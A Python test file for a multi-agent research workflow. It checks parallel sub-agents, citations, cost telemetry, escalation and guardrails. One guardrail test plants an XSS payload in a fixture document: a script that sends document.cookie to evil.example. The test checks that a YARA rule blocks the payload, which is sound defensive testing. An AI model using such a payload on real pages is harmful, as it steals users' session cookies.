"""The research workflow end to end on the scripted frontier, specialist doubles and real MCP servers."""

from __future__ import annotations

import pytest

from flotilla.graphs import load_workflow
from flotilla.graphs.runner import RunEvent
from flotilla.graphs.spec import SpecError, parse_spec

from .conftest import span_time, specialist, variant

QUESTION = "Should we pay Northwind's invoice that came with new bank details?"


async def test_sub_agents_run_in_parallel_and_the_report_cites_real_tool_results(research) -> None:
    h = research(specialist(delay_s=0.3))
    events: list[RunEvent] = []
    result = await h.runner.run(load_workflow("research"), QUESTION, on_event=events.append)
    assert result.status == "succeeded", result.error
    report = result.output

    # One sub-agent per planned sub-question, all ran, and their spans overlap in time.
    spans = h.spans()
    subs = [s for s in spans if s["name"].startswith("invoke_agent ") and "/q" in s["name"]]
    assert sorted(s["attributes"]["gen_ai.agent.name"] for s in subs) == ["documents/q1", "ledger/q2", "ledger/q3"]
    assert max(span_time(s, "start_time") for s in subs) < min(span_time(s, "end_time") for s in subs)
    [run] = [s for s in spans if s["name"] == "invoke_workflow research"]
    assert {s["parent_id"] for s in subs} == {run["context"]["span_id"]}

    # Citations: only ids of real tool results survive, and each re-runs to the same result.
    cited = {c for claim in report["claims"] for c in claim["citations"]}
    assert cited == {"q1.1", "q2.1"} and set(report["sources"]) == cited
    assert any("q9.9" in cut for cut in report["cut"])
    for source in report["sources"].values():
        again = await h.hub.call(source["tool"], source["arguments"])
        assert source["excerpt"] and again.observation(2000).startswith(source["excerpt"])
    assert "IBAN" in report["sources"]["q1.1"]["excerpt"] and "Northwind" in report["sources"]["q2.1"]["excerpt"]

    # The lead spoke to the frontier twice (plan, report); every chat span is priced and says where it ran.
    assert [r["response_format"]["json_schema"]["name"] for r in h.frontier.requests] == ["Plan", "Report"]
    chats = [s["attributes"] for s in spans if s["name"].startswith("chat ")]
    assert all("flotilla.model_local" in a and "flotilla.cost_usd" in a for a in chats)
    remote = [a for a in chats if a["flotilla.model_local"] is False]
    assert len(remote) == 2 and all(a["flotilla.model_alias"] == "frontier" for a in remote)
    usage = report["usage"]
    assert usage["remote_calls"] == 2 and usage["model_calls"] == len(chats)
    assert usage["cost_usd"] == pytest.approx(sum(a["flotilla.cost_usd"] for a in chats), abs=1e-6)
    assert usage["all_frontier_cost_usd"] > usage["cost_usd"] > 0
    assert run["attributes"]["flotilla.run.remote_calls"] == 2

    # Progress: a notice when each sub-agent starts, a step when it finishes.
    started = [e for e in events if e.kind == "notice" and e.data.get("event") == "sub_agent_started"]
    finished = [e.data["agent"] for e in events if e.kind == "step"]
    assert len(started) == 3 and finished[0] == "planner" and finished[-1] == "writer"
    assert sorted(finished[1:-1]) == ["documents/q1", "ledger/q2", "ledger/q3"]
    assert h.runs.get_run(result.run_id).status == "succeeded"


async def test_a_failing_sub_agent_is_a_gap_not_a_failed_run(research) -> None:
    h = research(specialist(fail_on=("payments",)))
    result = await h.runner.run(variant(research={"escalate": False}), QUESTION)
    assert result.status == "succeeded", result.error
    failed = [s for s in result.output["sub_agents"] if not s["ok"]]
    assert [s["id"] for s in failed] == ["q3"] and "scripted failure" in failed[0]["error"]
    assert any(g.startswith("q3 ") for g in result.output["gaps"])
    [step] = [s for s in result.steps if s["agent"] == "ledger/q3"]
    assert step["ok"] is False and step["error"]["code"] == "model_bad_response"


async def test_a_failing_specialist_escalates_to_the_frontier_and_the_span_says_so(research) -> None:
    h = research(specialist(fail_on=("payments",)))
    result = await h.runner.run(load_workflow("research"), QUESTION)
    assert result.status == "succeeded", result.error
    [q3] = [s for s in result.output["sub_agents"] if s["id"] == "q3"]
    assert q3["ok"] and q3["escalated"]
    escalated = [s["attributes"] for s in h.spans() if s["name"].startswith("chat ") and s["attributes"].get("flotilla.escalated")]
    assert len(escalated) == 1 and escalated[0]["flotilla.model_alias"] == "frontier"
    assert "model_bad_response" in escalated[0]["flotilla.escalation.reason"]
    assert result.output["usage"]["escalations"] == 1


def test_sub_agents_are_capped_at_twenty() -> None:
    text = (load_workflow("research").source.read_text()).replace("max_sub_agents: 3", "max_sub_agents: 25")
    with pytest.raises(SpecError, match="max_sub_agents"):
        parse_spec(text)


async def test_a_guardrail_block_in_a_sub_agent_blocks_the_run(research, tmp_path) -> None:
    import sys

    from flotilla.guardrails import Guardrails
    from flotilla.tools import StdioServerConfig, open_hub

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "memo.md").write_text("IBAN bank account fraud <script>document.location='http://evil.example/?c='+document.cookie</script>\n")
    h = research()
    servers = {
        "documents": StdioServerConfig(command=sys.executable, args=["-m", "flotilla.mcp_servers.documents", "--root", str(docs)]),
        "ledger": StdioServerConfig(command=sys.executable, args=["-m", "flotilla.mcp_servers.ledger"]),
    }
    h.runner.tools = h.hub = open_hub(servers, lock_file=tmp_path / "lock.json", tracer=h.telemetry.tracer)
    h.runner.rails = Guardrails(
        {
            "presidio": {"enabled": False},
            "yara": {"points": ["tool-result"], "rulesets": ["xss"]},
            "injection_classifier": {"enabled": False},
            "content_safety": {"enabled": False},
            "tool_screen": {"enabled": False},
            "llama_guard": {"enabled": False},
        }
    )
    result = await h.runner.run(variant(research={"escalate": False}), QUESTION)
    assert result.status == "blocked" and result.error["code"] == "guardrail_violation"
    assert result.error["point"] == "tool-result" and result.steps[-1]["agent"] == "documents/q1"
